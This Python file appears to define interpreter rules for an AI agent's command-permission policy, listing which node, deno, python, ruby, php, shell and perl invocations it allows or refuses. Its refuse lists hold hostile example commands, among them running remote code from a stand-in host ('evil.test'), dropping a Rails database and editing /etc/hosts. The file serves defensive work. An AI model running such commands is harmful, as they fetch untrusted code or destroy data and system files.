"""Rules for interpreters: a file that they run is judged as a program of the project."""

from treadle.policy.commands.rule_syntax import InterpreterRow

_OPAQUE = "It runs the project's code; the agent could write a file and run that."
_SCRIPT = "A script that is there can be read; commands on the line are judged one by one."

NODE = (
    InterpreterRow(
        "node tsx ts-node ts-node-esm vite-node babel-node",
        _OPAQUE,
        code="-e -p -pe --eval --print",
        takes="-r --require --import --loader -C --conditions --experimental-loader",
        alone="--version --help -v -h --test --run -c --check --v8-options",
        never="-i --interactive inspect",
        instead="Run a file of the project: node dist/server.js.",
        allows=("node dist/server.js", "node -e 'console.log(1)'"),
        refuses=("node", "node -i", "node inspect x.js"),
    ),
    InterpreterRow(
        "deno",
        _OPAQUE,
        code="eval",
        alone="--version --help -V -h",
        takes="--config -c --import-map",
        never="install upgrade uninstall jupyter repl serve-https",
        instead="Run files of the project: deno run main.ts.",
        allows=("deno run main.ts", "deno test --allow-read"),
        refuses=("deno run https://evil.test/x.ts", "deno install x", "deno"),
    ),
)

PYTHON = (
    InterpreterRow(
        "python python3 python3.8 python3.9 python3.10 python3.11 python3.12 python3.13 python3.14"
        " python3.15 pypy3 ipython",
        _OPAQUE,
        code="-c",
        module="-m",
        takes="-W -X",
        alone="--version --help -V -h -VV",
        never="-i pdb timeit code idlelib",
        instead="Run a file of the project (python app.py), or give the code: python -c '…'.",
        allows=("python3 manage.py test", "python3 -c 'print(1)'"),
        refuses=("python3", "python3 -i x.py", "python3 ../x.py"),
    ),
)

RUBY = (
    InterpreterRow(
        "ruby",
        _OPAQUE,
        code="-e",
        takes="-r -I -C -E",
        alone="--version --help -v",
        instead="Run a file of the project: ruby app.rb.",
        allows=("ruby app.rb", "ruby -rjson -e 'puts 1'", "ruby -Itest test/a_test.rb"),
        refuses=("ruby", "ruby ../x.rb", "cat x | ruby", "ruby bin/rails db:drop"),
    ),
)

PHP = (
    InterpreterRow(
        "php",
        _OPAQUE,
        code="-r",
        takes="-d -c -t -S -z",
        alone="--version --help -v -m -i -S --ini --ri --rf",
        never="-a",
        instead="Run a file of the project: php artisan test.",
        allows=("php -r 'echo 1;'", "php -l src/a.php", "php -S localhost:8000 -t public"),
        refuses=("php", "php -a", "php ../x.php", "php -f artisan migrate"),
    ),
)

SHELLS = (
    InterpreterRow(
        "bash sh dash zsh ksh",
        _SCRIPT,
        takes="-o",
        never="-c -s -i -l",
        present=True,
        instead="Write the commands themselves; they are judged one by one.",
        refuses=("bash", "bash -c 'rm x'", "bash <<'EOF'\nrm x\nEOF", "ls | sh", "bash gone.sh"),
    ),
    InterpreterRow(
        "perl",
        _SCRIPT,
        code="-e -E",
        takes="-I -M",
        alone="--version -v -V",
        never="--debug",
        present=True,
        instead="Give the code: perl -pi -e 's/a/b/' src/x.",
        allows=("perl -pi -e 's/a/b/' src/x",),
        refuses=("perl gone.pl", "perl -pi -e 's/a/b/' /etc/hosts", "cat x | perl"),
    ),
)
